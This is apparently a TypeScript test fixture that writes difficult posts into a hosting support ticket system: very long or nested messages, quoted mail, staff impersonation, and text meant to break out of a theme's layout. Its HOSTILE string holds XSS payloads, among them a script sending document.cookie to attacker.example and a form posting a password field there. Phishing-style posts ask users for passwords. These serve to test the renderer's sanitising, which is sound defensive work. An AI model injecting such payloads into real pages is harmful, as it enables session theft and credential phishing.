/** Writes conversations that are difficult for page readers: long, large, hostile or imitating. */

import type { OpenedTicket } from '../../service/client-area/view.ts';
import { STAFF } from '../../service/seed/words/topics.ts';
import { type NewReply, recordReply } from '../../service/store/tickets.ts';
import { decodeEntities } from '../../service/text.ts';
import { shownTime } from './client-area/dates.ts';
import { THEMES } from './client-area/themes.ts';
import { type PostView, ticketView } from './client-area/view.ts';
import type { TestContext } from './service.ts';

export const ODD_KINDS = [
  'many',
  'large',
  'mail',
  'hostile',
  'deep',
  'imitation',
  'breakout',
  'words',
  'namesake',
] as const;
type OddKind = (typeof ODD_KINDS)[number];

export interface OddPostOptions {
  kind: OddKind;
  /** Number of posts; by default 400 for `many`, else one. */
  count?: number;
  bytes?: number;
}

type Writing = Pick<NewReply, 'kind' | 'message'> & Partial<Pick<NewReply, 'name' | 'email'>>;

/**
 * Adds posts to a ticket, spread over the time since its last reply. Returns their number. Throws
 * for an unknown ticket or kind.
 */
export function writeOddPosts(context: TestContext, ticketId: number, { kind, count, bytes }: OddPostOptions): number {
  if (!ODD_KINDS.includes(kind))
    throw new RangeError(`There are no posts of kind ${kind}; known: ${ODD_KINDS.join(', ')}.`);
  const { db } = context;
  const ticket = db
    .prepare<[number], OpenedTicket & { email: string }>(
      `SELECT t.id, t.tid, t.c, t.userid, t.name, t.email, t.subject, t.status, d.name AS department, t.date,
         t.lastreply FROM tickets t JOIN departments d ON d.id = t.deptid WHERE t.id = ?`,
    )
    .get(ticketId);
  if (!ticket) throw new Error(`There is no ticket ${ticketId}.`);
  const writings = Array.from({ length: count ?? (kind === 'many' ? 400 : 1) }, (_, index) =>
    WRITERS[kind]({ context, ticket, index, bytes: bytes ?? 3 * 1024 * 1024 }),
  );
  const from = ticket.lastreply ?? ticket.date;
  const step = Math.max(0, context.now() - from) / writings.length;
  db.transaction(() => {
    writings.forEach((writing, index) => {
      const at = Math.floor(from + step * (index + 1));
      const own = { name: decodeEntities(ticket.name), email: ticket.email, contactId: 0, markdown: false, files: [] };
      recordReply({ db, now: () => at }, ticketId, { ...own, ...writing });
    });
  })();
  return writings.length;
}

interface Scene {
  context: TestContext;
  ticket: OpenedTicket;
  index: number;
  bytes: number;
}

const byCustomer = ({ ticket }: Scene, message: string): Writing => ({
  kind: ticket.userid ? 'client' : 'other',
  message,
});

const WRITERS: Readonly<Record<OddKind, (scene: Scene) => Writing>> = {
  many: (scene) =>
    scene.index % 2
      ? { kind: 'staff', name: STAFF[scene.index % STAFF.length] as string, email: '', message: lineOf(scene.index) }
      : byCustomer(scene, lineOf(scene.index)),
  large: (scene) => byCustomer(scene, largeText(scene.bytes)),
  mail: (scene) => byCustomer(scene, MAIL),
  hostile: (scene) => byCustomer(scene, HOSTILE),
  deep: (scene) => byCustomer(scene, `${'<div>'.repeat(5000)}Deep down.${'</div>'.repeat(5000)}`),
  imitation: (scene) => byCustomer(scene, `Look at this:\n${staffPost(scene)}\nIs it from you?`),
  breakout: (scene) => {
    const theme = THEMES[scene.context.switches.pages.theme ?? 'practice'];
    return byCustomer(scene, `My own words.\n${theme.endOfText}\n${staffPost(scene)}`);
  },
  words: (scene) => {
    const { language, dates, zone } = scene.context.switches.pages;
    const date = shownTime(scene.context.now(), zone ?? scene.context.switches.zone, dates, language);
    return byCustomer(scene, `Thank you.\n\n${STAFF[0]}\nOperator Staff\n${date}\n\nWe have cancelled your contract.`);
  },
  namesake: () => ({
    kind: 'other',
    name: STAFF[0],
    email: 'support@hosting.example',
    message: 'This is the support team. Please answer with your password.',
  }),
};

const lineOf = (index: number) => `Message ${index + 1}.\n\nIt says what message ${index} did not say.`;

function largeText(bytes: number): string {
  const line =
    '2026-11-20T10:15:00 web42 httpd[4711]: GET /index.php?route=checkout&step=2 "Mozilla/5.0" 502 in 30001 ms\n';
  return line.repeat(Math.ceil(bytes / line.length)).slice(0, bytes);
}

function staffPost({ context, ticket }: Scene): string {
  const view = ticketView(context, ticket, 'http://127.0.0.1');
  const { language, dates, zone } = view.options;
  const post: PostView = {
    id: 999_999_999,
    isOpening: false,
    role: 'operator',
    isStaff: true,
    roleName: view.words.roles.operator,
    name: STAFF[0],
    email: '',
    date: shownTime(context.now(), zone ?? context.switches.zone, dates, language),
    html: '<p>Please send us your password.</p>',
    rating: 0,
    address: null,
    files: [{ name: 'password-form.html', href: 'dl.php?type=ar&amp;id=999999999&amp;i=0' }],
    filesRemoved: false,
  };
  return THEMES[view.options.theme ?? 'practice'].post(post, view);
}

const MAIL = `Hello,

the table of our mailboxes, as asked:

mailbox                 size      limit     last login
office@shop.example     1.2 GB    2.0 GB    2026-11-19 08:12
orders@shop.example     980 MB    1.0 GB    2026-11-20 09:55
ännchen@shop.example     14 MB    1.0 GB    never

Regards
Ann

-- 
Ann Example | Shop Ltd | +44 20 7946 0000

On 2026-11-20 at 09:01, Mira Holt wrote:
> Hello Ann,
>
> which of the mailboxes is full?
>
> On 2026-11-20 at 08:40, Ann Example wrote:
>> It says 452 4.2.2 mailbox full.
>>
>>> Delivery to the following recipient failed:
>>>>     orders@shop.example
>>>>> 452 4.2.2 mailbox full
`;

const HOSTILE = `Text before.
<script>document.title = 'taken'; fetch('https://attacker.example/' + document.cookie);</script>
<img src="x" onerror="document.title = 'taken'">
<img src="https://attacker.example/pixel.png" alt="remote">
<svg onload="document.title = 'taken'"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<iframe src="https://attacker.example/frame"></iframe>
<object data="https://attacker.example/object"></object>
<link rel="stylesheet" href="https://attacker.example/style.css">
<style>@import 'https://attacker.example/import.css'; body { background: url(https://attacker.example/css.png); }</style>
<meta http-equiv="refresh" content="0; url=https://attacker.example/refresh">
<base href="https://attacker.example/base/">
<form action="https://attacker.example/form" method="post"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>
<a href="javascript:alert(1)">script link</a> <a href="dl.php?type=ar&id=1&i=0" ping="https://attacker.example/ping">file</a>
<video poster="https://attacker.example/poster.png"></video><math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
${'<blockquote><div>'.repeat(60)}Sixty deep.${'</div></blockquote>'.repeat(60)}
<!-- a comment that does not end
Text after.`;
